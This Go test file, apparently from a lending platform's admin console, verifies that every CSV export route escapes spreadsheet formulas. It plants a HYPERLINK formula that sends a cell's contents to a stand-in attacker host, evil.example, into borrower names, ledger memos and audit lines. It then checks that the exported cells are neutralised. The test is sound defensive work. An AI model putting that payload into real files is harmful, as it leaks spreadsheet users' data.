package console_test

import (
	"encoding/csv"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"kwarta/internal/console"
	"kwarta/internal/httpapi"
	"kwarta/internal/ledger"
	"kwarta/internal/payment"
	"kwarta/internal/server/servertest"
	"kwarta/internal/store"
	"kwarta/internal/store/storetest"
)

// formula is the value planted in every export: a spreadsheet would run it.
const formula = `=HYPERLINK("http://evil.example/?x="&A1,"open")`

// csvExport is how the test exercises one CSV route: plant puts formula
// into the data the route exports (through the real calls where it can,
// in the owner's table where the real calls would refuse it) and answers
// the query that downloads it.
type csvExport struct {
	plant func(t *testing.T, env *servertest.Env, db *store.DB) url.Values
	// noText: the export holds no text from the data (dates, bucket
	// names, figures), so there is nothing to plant; the test still
	// downloads it and checks no cell is a formula.
	noText bool
}

// csvExports is every CSV the product writes, by route ("METHOD path").
// A new CSV route adds its entry here (the test fails until it does):
// plant formula in what it exports and return the download's query.
var csvExports = map[string]csvExport{
	"GET /admin/api/payments/totals.csv": {plant: func(t *testing.T, env *servertest.Env, db *store.DB) url.Values {
		// A payment of today whose channel holds the formula (one
		// credited before the postback fields were checked).
		ref := paid81(t, env, db)
		if _, err := db.Exec(t.Context(), `UPDATE payments SET channel = ? WHERE ref_no = ?`, formula, ref); err != nil {
			t.Fatal(err)
		}
		today := env.Clock.Now().In(env.App.Config.Market.Location()).Format(time.DateOnly)
		return url.Values{"from": {today}, "to": {today}}
	}},
	"GET /admin/api/audit.csv": {plant: func(t *testing.T, env *servertest.Env, db *store.DB) url.Values {
		// A line whose object is the formula (a complaint's number or an
		// operator's name typed by someone else could be).
		op := httpapi.OperatorSession{ID: 1, Name: "ana", Addr: "192.0.2.7"}
		if err := env.App.Console.Record(t.Context(), db, op, "note", "complaint", formula, nil, nil); err != nil {
			t.Fatal(err)
		}
		return url.Values{"objectType": {"complaint"}}
	}},
	"GET /admin/api/collections/reports/par.csv":        {plant: nothingToPlant, noText: true},
	"GET /admin/api/collections/reports/roll-rates.csv": {plant: nothingToPlant, noText: true},
	"GET /admin/api/collections/reports/vintage.csv":    {plant: nothingToPlant, noText: true},
	"GET /admin/api/collections/reports/efficiency.csv": {plant: nothingToPlant, noText: true},
	"GET /admin/api/collections/reports/promises.csv":   {plant: nothingToPlant, noText: true},
	"GET /admin/api/collections/reports/collectors.csv": {plant: func(t *testing.T, env *servertest.Env, db *store.DB) url.Values {
		// A call today by an operator named with the formula.
		if _, err := db.Exec(t.Context(), `INSERT INTO collection_contacts (order_id, order_no, user_id, operator_id, operator_name, channel, outcome, days_past_due, at)
			SELECT id, order_no, user_id, 777, ?, 'call', 'reached', 1, ? FROM orders WHERE id = 81`, formula, env.Clock.Now().UnixMilli()); err != nil {
			t.Fatal(err)
		}
		return nil
	}},
	"GET /admin/api/accounting/trial-balance.csv": {plant: plantBooks},
	"GET /admin/api/accounting/journal.csv":       {plant: plantBooks},
	"GET /admin/api/accounting/income.csv":        {plant: plantBooks},
	"GET /admin/api/accounting/aging.csv": {plant: func(t *testing.T, env *servertest.Env, db *store.DB) url.Values {
		// Borrower A's name (typed by the borrower) on an order that owes.
		plantName(t, db)
		return url.Values{}
	}},
	"GET /admin/api/accounting/disbursements.csv": {plant: func(t *testing.T, env *servertest.Env, db *store.DB) url.Values {
		plantName(t, db) // borrower A's loans were paid out within the year
		return yearTo(env)
	}},
	"GET /admin/api/accounting/collections.csv": {plant: func(t *testing.T, env *servertest.Env, db *store.DB) url.Values {
		// A payment of today whose provider reference holds the formula.
		if _, err := db.Exec(t.Context(), `UPDATE payments SET ref_no = ? WHERE ref_no = ?`, formula, paid81(t, env, db)); err != nil {
			t.Fatal(err)
		}
		return yearTo(env)
	}},
}

// paid81 pays order 81 through the sandbox's postback, once (the exports
// share the server), and answers the payment's reference.
func paid81(t *testing.T, env *servertest.Env, db *store.DB) string {
	var ref string
	if err := db.QueryRow(t.Context(), `SELECT ref_no FROM payments WHERE order_id = 81`).Scan(&ref); err == nil {
		return ref
	}
	txn, ref, due := payCode81(t, env)
	if r := postback(t, env, payment.Postback{TxnID: txn, RefNo: ref, Status: payment.StatusSuccess, Message: "paid", Amount: due, Currency: "PHP", Channel: "GCSH"}); r.Status != http.StatusOK {
		t.Fatalf("postback: %d %s", r.Status, r.Body)
	}
	return ref
}

// yearTo is the period of the year up to today.
func yearTo(env *servertest.Env) url.Values {
	today := env.Clock.Now().In(env.App.Config.Market.Location())
	return url.Values{"from": {today.AddDate(0, 0, -365).Format(time.DateOnly)}, "to": {today.Format(time.DateOnly)}}
}

func nothingToPlant(*testing.T, *servertest.Env, *store.DB) url.Values { return nil }

// plantBooks adds an income account named with the formula (an
// administrator names the chart's accounts) and posts to it today, with
// the formula as the entry's memo: the trial balance, the income
// statement and the journal show it (the three exports share it).
func plantBooks(t *testing.T, env *servertest.Env, db *store.DB) url.Values {
	if _, err := db.Exec(t.Context(), `INSERT INTO ledger_accounts (code, name, kind, created_at) VALUES ('4900', ?, 'income', 0) ON CONFLICT (code) DO NOTHING`, formula); err != nil {
		t.Fatal(err)
	}
	now := env.Clock.Now()
	d := now.In(env.App.Config.Market.Location())
	date := time.Date(d.Year(), d.Month(), d.Day(), 0, 0, 0, 0, time.UTC)
	if _, err := ledger.Post(t.Context(), db, ledger.Entry{Kind: "other", Date: date, At: now, Memo: formula,
		Lines: []ledger.Line{ledger.Dr(ledger.CashAtBank, 100), ledger.Cr("4900", 100)}}); err != nil {
		t.Fatal(err)
	}
	return url.Values{}
}

// plantName names borrower A (orders 81 and more) with the formula.
func plantName(t *testing.T, db *store.DB) {
	if _, err := db.Exec(t.Context(), `UPDATE users SET name = ? WHERE id = 1`, formula); err != nil {
		t.Fatal(err)
	}
}

// notCSV are the routes that write their own answer (Raw) but no CSV, so
// a Raw route that starts writing CSV under another name is noticed too.
var notCSV = []string{
	"GET /openapi.json",                       // the API document
	"GET /api/v2/youmi/promotion/get-captcha", // a picture code
	"GET /v3/contract/document",               // an agreement, HTML
	"GET /files/{name}",                       // a stored image
	"GET /user-problem/image/{name}",          // a complaint image
	"GET /admin/api/complaints/image/{name}",  // a complaint image, for operators
	"POST /payments/postback",                 // the provider's postback: text
	"GET /payments/postback",                  // the same, sent as a query
	"GET /payments/channels/{name}",           // a channel's logo
	"GET /payments/sandbox/{txnid}",           // the sandbox's pay page
	"POST /payments/sandbox/{txnid}",          // its buttons
	"POST /payouts/callback",                  // Dragonpay's payout callback: text
	"GET /payouts/callback",                   // the same, sent as a query
}

// TestExports_EscapeFormulas walks the real route table: every route that
// answers CSV (its path ends .csv, or it is Raw and not listed in notCSV)
// must have an entry in csvExports, and each export, downloaded after the
// formula is planted in its data, holds the cell as text ('=...).
func TestExports_EscapeFormulas(t *testing.T) {
	storetest.Each(t, func(t *testing.T, db *store.DB) {
		env := servertest.New(t, db)
		admin := enrol(t, env, "ana", console.Admin)
		seen := map[string]bool{}
		for _, rt := range env.App.Routes() {
			key := rt.Method + " " + rt.Path
			isCSV := strings.HasSuffix(rt.Path, ".csv")
			if !isCSV && !rt.Raw {
				continue
			}
			if !isCSV && slices.Contains(notCSV, key) {
				seen[key] = true
				continue
			}
			exp, ok := csvExports[key]
			if !ok {
				t.Errorf("%s answers CSV (or is Raw and not in notCSV) but has no entry in csvExports", key)
				continue
			}
			seen[key] = true
			t.Run(key, func(t *testing.T) {
				r := admin.call(t, env, rt.Method, rt.Path, exp.plant(t, env, db))
				if r.Status != http.StatusOK || !strings.HasPrefix(r.Header.Get("Content-Type"), "text/csv") {
					t.Fatalf("%d %v\n%s", r.Status, r.Header, r.Body)
				}
				rows, err := csv.NewReader(strings.NewReader(r.Body)).ReadAll()
				if err != nil {
					t.Fatalf("not CSV: %v\n%s", err, r.Body)
				}
				found := false
				for _, row := range rows {
					for _, cell := range row {
						if strings.Contains(cell, "HYPERLINK") && cell != "'"+formula {
							t.Errorf("a cell holds the formula unescaped: %q", cell)
						}
						found = found || cell == "'"+formula
					}
				}
				if !found && !exp.noText {
					t.Errorf("the planted value is not in the export:\n%s", r.Body)
				}
			})
		}
		for key := range csvExports {
			if !seen[key] {
				t.Errorf("csvExports lists %s, which is not a route", key)
			}
		}
		for _, key := range notCSV {
			if !seen[key] {
				t.Errorf("notCSV lists %s, which is not a Raw route", key)
			}
		}
	})
}
